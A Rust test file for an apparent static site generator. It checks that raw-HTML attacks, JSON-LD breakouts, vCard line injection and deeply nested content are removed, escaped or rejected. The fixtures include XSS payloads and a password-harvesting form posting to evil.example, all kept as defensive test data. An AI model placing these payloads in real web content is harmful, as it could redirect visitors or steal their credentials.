//! Hostile content (issue 11): raw HTML under the policy, every embedded context escaped,
//! contacts that stay valid, deep nesting. Each case is a copy of the valid fixture with one
//! change, built by the real binary; each asserts the exit code, the message (file, line, fix)
//! and what was (or was not) published.

mod common;

use common::{copy_fixture, edit, has_tag, read, samspil, stderr, stdout, tags};
use std::path::{Path, PathBuf};

const PAGE: &str = "content/principles/trust.da.md";
const CONTACT: &str = "content/contacts/emergency.da.md";

/// The fixture with `text` appended to the body of [`PAGE`] (whose body starts on line 6), and
/// the line the first appended line lands on.
fn site_with_body(text: &str) -> (tempfile::TempDir, PathBuf, usize) {
    let (tmp, site) = copy_fixture("valid");
    let file = site.join(PAGE);
    let before = read(&file);
    std::fs::write(&file, format!("{before}\n{text}\n")).unwrap();
    let first = before.lines().count() + 2;
    (tmp, site, first)
}

/// `samspil build` into a fresh folder under the site's temp dir.
fn build(site: &Path) -> (std::process::Output, PathBuf) {
    let out = site.parent().unwrap().join("public");
    let o = samspil(&["build", "--output", out.to_str().unwrap()], site);
    (o, out)
}

fn built_ok(site: &Path) -> (String, PathBuf) {
    let (o, out) = build(site);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(0), "{err}");
    (err, out)
}

/// A build that must fail with `expect` in its message, a fix, and nothing published.
fn fails_with(site: &Path, expect: &[&str]) -> String {
    let (o, out) = build(site);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "exit code; stderr:\n{err}");
    assert!(!err.contains("panicked") && err.contains("help:"), "{err}");
    for e in expect {
        assert!(err.contains(e), "expected {e:?} in:\n{err}");
    }
    assert!(!out.exists(), "a failed build published {}", out.display());
    err
}

fn trust_page(out: &Path) -> String {
    read(&out.join("da/principper/tillid/index.html"))
}

/// The text of the page's `<script type="application/ld+json">` block.
fn json_ld(html: &str) -> &str {
    let start = html.find("ld+json").expect("a JSON-LD block");
    let body = &html[start..];
    let open = body.find('>').unwrap() + 1;
    let close = body.find("</script>").unwrap();
    &body[open..close]
}

/// A page that was cut off or blanked lacks its footer and closing tags.
fn assert_whole(html: &str) {
    assert!(
        html.contains("<footer") && html.trim_end().ends_with("</html>"),
        "page cut off: {html}"
    );
}

#[test]
fn attacks_in_raw_html_are_removed_each_with_a_warning() {
    let attacks = [
        "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">",
        "<form action=\"https://evil.example/steal\"><input name=\"password\"></form>",
        "<base href=\"https://evil.example/\">",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<script>alert(1)</script>",
        "<style>body{display:none}</style>",
        "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<p onclick=\"alert(1)\">Klik</p>",
        "<p><a href=\"javascript:alert(1)\">Link</a> <img src=\"data:image/svg+xml,x\" alt=\"Billede\"></p>",
    ];
    let allowed = "<details><summary>Mere</summary>\n<table><tr><th colspan=\"2\">A</th></tr><tr><td><abbr title=\"Folkeregister\">CPR</abbr> x<sup>2</sup> <kbd>Ctrl</kbd> <mark>vigtigt</mark></td></tr></table>\n<figure><img src=\"kort.png\" alt=\"Kort\"><figcaption>Kortet</figcaption></figure>\n<dl><dt>Term</dt><dd>Forklaring<br>mere</dd></dl><hr>\n</details>";
    let body = format!("{}\n\n{allowed}\n\nSidste afsnit.", attacks.join("\n\n"));
    let (_tmp, site, first) = site_with_body(&body);
    let (err, out) = built_ok(&site);

    // One warning per removal, at the attack's own line (each attack is two lines apart).
    let expected = [
        (0, "`<meta>` is not allowed"),
        (2, "`<form>` is not allowed"),
        (2, "`<input>` is not allowed"),
        (4, "`<base>` is not allowed"),
        (6, "`<iframe>` is not allowed"),
        (
            8,
            "`<script>` is not allowed and was removed with its content",
        ),
        (
            10,
            "`<style>` is not allowed and was removed with its content",
        ),
        (12, "`<object>` is not allowed"),
        (12, "`<embed>` is not allowed"),
        (14, "`<link>` is not allowed"),
        (16, "attribute `onclick` on `<p>`"),
        (18, "the `javascript:` address in `href` on `<a>`"),
        (18, "the `data:` address in `src` on `<img>`"),
    ];
    for (delta, message) in expected {
        let at = format!("warning: {PAGE}:{}:1: ", first + delta);
        assert!(
            err.lines()
                .any(|l| l.starts_with(&at) && l.contains(message)),
            "expected {at}…{message} in:\n{err}"
        );
    }
    assert!(
        err.contains("help: raw HTML may use only the tags"),
        "{err}"
    );
    let page_warnings = format!("warning: {PAGE}:");
    assert_eq!(err.matches(&page_warnings).count(), expected.len(), "{err}");

    let html = trust_page(&out);
    assert!(
        !has_tag(&html, "meta", &[("http-equiv", "refresh")]),
        "{html}"
    );
    assert!(tags(&html, "base").is_empty(), "{html}");
    // The theme's own search form and scripts are in the header; the body is the content.
    let content = &html[html.find("<div class=content>").expect("content")..];
    let content = &content[..content.find("<footer").expect("page footer")];
    for t in [
        "form", "input", "iframe", "object", "embed", "script", "style", "link", "meta",
    ] {
        assert!(tags(content, t).is_empty(), "<{t}> published:\n{content}");
    }
    assert!(
        !html.contains("onclick") && !html.contains("alert(1)"),
        "{html}"
    );
    assert!(
        !html.contains("javascript:") && !html.contains("data:image"),
        "{html}"
    );
    assert!(!html.contains("evil.example"), "{html}");
    assert!(!html.contains("display:none"), "{html}");
    // What an article needs stays.
    assert!(has_tag(&html, "th", &[("colspan", "2")]), "{html}");
    assert!(
        has_tag(&html, "abbr", &[("title", "Folkeregister")]),
        "{html}"
    );
    assert!(
        has_tag(&html, "img", &[("src", "kort.png"), ("alt", "Kort")]),
        "{html}"
    );
    for t in [
        "details",
        "summary",
        "sup",
        "kbd",
        "mark",
        "figcaption",
        "dl",
        "dt",
        "dd",
        "br",
        "hr",
    ] {
        assert!(!tags(&html, t).is_empty(), "<{t}> lost:\n{html}");
    }
    assert!(html.contains("Klik") && html.contains("Link") && html.contains("Sidste afsnit."));
    assert_whole(&html);
}

#[test]
fn raw_html_trusted_publishes_raw_html_as_written() {
    let (_tmp, site, _) =
        site_with_body("<form action=\"/tilmeld\"><button>Tilmeld</button></form>");
    edit(
        &site.join("samspil.yaml"),
        "default_language: da\n",
        "default_language: da\nraw_html: trusted\n",
    );
    let (err, out) = built_ok(&site);
    assert!(!err.contains(&format!("warning: {PAGE}")), "{err}");
    let html = trust_page(&out);
    assert!(has_tag(&html, "form", &[("action", "/tilmeld")]), "{html}");
}

#[test]
fn an_unclosed_comment_is_an_error_not_a_page_cut_short() {
    let (_tmp, site, first) = site_with_body("Første afsnit.\n\n<!-- en note\n\nResten af siden.");
    fails_with(
        &site,
        &[
            &format!(
                "error: {PAGE}:{}:1: an HTML comment `<!--` is never closed",
                first + 2
            ),
            "help: end the comment with `-->`, or delete it",
        ],
    );
}

#[test]
fn a_closed_comment_is_dropped_and_the_page_stays_whole() {
    let (_tmp, site, _) = site_with_body("Før.\n\n<!-- en note til redaktøren -->\n\nEfter.");
    let (err, out) = built_ok(&site);
    assert!(!err.contains(&format!("warning: {PAGE}")), "{err}");
    let html = trust_page(&out);
    assert!(
        !html.contains("redaktøren") && html.contains("Efter."),
        "{html}"
    );
    assert_whole(&html);
}

#[test]
fn heading_attributes_other_than_id_and_class_are_removed() {
    let (_tmp, site, first) = site_with_body("## Overskrift {#ok .fremhaevet onclick=alert(1)}");
    let (err, out) = built_ok(&site);
    assert!(
        err.contains(&format!(
            "warning: {PAGE}:{first}:1: heading attribute `onclick` is not allowed and was removed"
        )),
        "{err}"
    );
    assert!(
        err.contains("help: a heading takes only an id and classes"),
        "{err}"
    );
    let html = trust_page(&out);
    assert!(
        has_tag(&html, "h2", &[("id", "ok"), ("class", "fremhaevet")]),
        "{html}"
    );
    assert!(
        !html.contains("onclick") && !html.contains("alert(1)"),
        "{html}"
    );
}

#[test]
fn a_heading_id_with_unsafe_characters_is_an_error() {
    let (_tmp, site, first) = site_with_body("## Overskrift {#a\"b}");
    fails_with(
        &site,
        &[
            &format!("error: {PAGE}:{first}:1: heading id `a\"b` has characters other than"),
            "help: write the id as `{#a-name}`",
        ],
    );
}

#[test]
fn a_javascript_link_in_markdown_is_an_error() {
    let (_tmp, site, first) = site_with_body("Se [her](javascript:alert(1)).");
    fails_with(
        &site,
        &[
            &format!(
                "error: {PAGE}:{first}:1: field `link`: link address `javascript:alert(1)` uses `javascript:`"
            ),
            "help: use an https:, http:, mailto: or tel: address",
        ],
    );
}

#[test]
fn json_ld_cannot_be_broken_out_of() {
    let (_tmp, site) = copy_fixture("valid");
    edit(
        &site.join(CONTACT),
        "summary: \"Ring 112 ved fare for liv (da).\"",
        "summary: \"<!--<script> </script><b>x</b>\"",
    );
    let (_, out) = built_ok(&site);
    let html = read(&out.join("da/kontakter/alarm-112/index.html"));
    let block = json_ld(&html);
    assert!(!block.contains('<'), "{block}");
    let v: serde_json::Value =
        serde_json::from_str(block).unwrap_or_else(|e| panic!("{e}: {block}"));
    assert_eq!(v["description"], "<!--<script> </script><b>x</b>");
    assert!(
        html.contains("Alarmcentralen"),
        "contact card lost:\n{html}"
    );
    assert_whole(&html);
    // Elsewhere the summary is text, or a quoted attribute value: escaped, never markup.
    assert!(
        html.contains("&lt;!--&lt;script> &lt;/script>&lt;b>x&lt;/b>"),
        "{html}"
    );
    assert!(
        has_tag(
            &html,
            "meta",
            &[
                ("name", "description"),
                ("content", "<!--<script> </script><b>x</b>")
            ]
        ),
        "{html}"
    );
    let outside_attributes = html.replace("content=\"<!--<script> </script><b>x</b>\"", "");
    assert!(!outside_attributes.contains("<b>"), "{html}");
}

/// The contact card: every unfolded line and its property name.
fn vcard_properties(vcf: &str) -> Vec<String> {
    assert!(vcf.ends_with("\r\n"), "{vcf:?}");
    assert!(
        !vcf.replace("\r\n", "").contains(['\r', '\n']),
        "a bare line break: {vcf:?}"
    );
    for line in vcf.split("\r\n") {
        assert!(line.len() <= 75, "a line over 75 octets: {line:?}");
    }
    vcf.replace("\r\n ", "")
        .split("\r\n")
        .filter(|l| !l.is_empty())
        .map(|l| {
            let name = l.split([':', ';']).next().unwrap();
            assert!(l.contains(':'), "not a property line: {l:?}");
            name.to_string()
        })
        .collect()
}

#[test]
fn a_multi_line_address_cannot_inject_vcard_lines() {
    let (_tmp, site) = copy_fixture("valid");
    edit(
        &site.join(CONTACT),
        "  phone: \"112\"\n",
        "  phone: \"112\"\n  address: |\n    Politigården 1; 1567 København, Danmark\n    TEL:+4599999999\n    URL:https://evil.example/ \"^\" \\ \n",
    );
    let (_, out) = built_ok(&site);
    let vcf = read(&out.join("da/kontakter/alarm-112/contact.vcf"));
    let names = vcard_properties(&vcf);
    assert_eq!(names.iter().filter(|n| *n == "TEL").count(), 1, "{vcf}");
    assert!(!names.contains(&"URL".to_string()), "{vcf}");
    let unfolded = vcf.replace("\r\n ", "");
    assert!(
        unfolded.contains(":;;Politigården 1\\; 1567 København\\, Danmark\\nTEL:+4599999999\\nURL:https://evil.example/ \"^\" \\\\ \\n;;;;\r\n"),
        "{vcf}"
    );
    assert!(unfolded.contains("LABEL=\"Politigården 1; 1567 København, Danmark^nTEL:+4599999999^nURL:https://evil.example/ ^'^^^' \\ ^n\""), "{vcf}");
}

#[test]
fn a_contact_url_that_is_not_a_web_mail_or_phone_address_is_an_error() {
    for (url, why) in [
        (
            "javascript:alert(1)",
            "uses `javascript:`, which a contact may not link to",
        ),
        ("data:text/html,x", "uses `data:`"),
        ("kommune.dk/kontakt", "is not a web address"),
        ("https://", "is not a web address"),
    ] {
        let (_tmp, site) = copy_fixture("valid");
        edit(
            &site.join(CONTACT),
            "  urgent: true\n",
            &format!("  urgent: true\n  url: \"{url}\"\n"),
        );
        fails_with(
            &site,
            &[
                &format!(
                    "error: {CONTACT}:15:1: field `contact.url`: contact website `{url}` {why}"
                ),
                "help: write the organisation's full address, e.g. https://kommune.dk/kontakt",
            ],
        );
    }
}

#[test]
fn a_web_mail_or_phone_contact_url_is_published() {
    let (_tmp, site) = copy_fixture("valid");
    edit(
        &site.join(CONTACT),
        "  urgent: true\n",
        "  urgent: true\n  url: \"https://politi.dk/kontakt\"\n",
    );
    let (_, out) = built_ok(&site);
    let vcf = read(&out.join("da/kontakter/alarm-112/contact.vcf"));
    assert!(
        vcf.contains("\r\nURL:https://politi.dk/kontakt\r\n"),
        "{vcf}"
    );
}

fn deep_quotes() -> String {
    format!("{}dybt", "> ".repeat(2300))
}

/// 700 levels: far past the nesting limit, and still under the 1 MB a content file may hold
/// (3,000 levels of indentation would be 9 MB, refused before the nesting is looked at).
fn deep_lists() -> String {
    (0..700)
        .map(|i| format!("{}- punkt", "  ".repeat(i)))
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn deep_nesting_is_an_error_in_build_not_a_crash() {
    // A list level opens two elements (the list and its item), so lists pass the limit at
    // their 51st line.
    for (what, body, line) in [
        ("quotes", deep_quotes(), 0),
        ("lists", deep_lists(), 50),
        ("html", "<div>".repeat(3000), 0),
    ] {
        let (_tmp, site, first) = site_with_body(&body);
        let err = fails_with(
            &site,
            &[
                "nest more than 100 levels deep here",
                "help: nest at most 100 levels",
            ],
        );
        let at = format!("error: {PAGE}:{}:1: ", first + line);
        assert!(err.contains(&at), "{what}: expected {at} in:\n{err}");
    }
}

#[test]
fn deep_nesting_is_an_error_in_check_not_a_crash() {
    let (_tmp, site, first) = site_with_body(&deep_quotes());
    let o = samspil(&["check"], &site);
    let text = stdout(&o);
    assert_eq!(o.status.code(), Some(1), "{text}\n{}", stderr(&o));
    assert!(text.contains(PAGE), "{text}");
    assert!(
        text.contains(&format!(
            "{first}:1  error: block quotes, lists or HTML elements nest more than 100 levels"
        )),
        "{text}"
    );
}

#[test]
fn a_misspelt_raw_html_value_is_an_error() {
    let (_tmp, site) = copy_fixture("valid");
    edit(
        &site.join("samspil.yaml"),
        "default_language: da\n",
        "default_language: da\nraw_html: trust\n",
    );
    fails_with(
        &site,
        &[
            "samspil.yaml:7:11: field `raw_html`",
            "unknown variant `trust`, expected `sanitize` or `trusted`",
            "help: did you mean `trusted`?",
        ],
    );
}
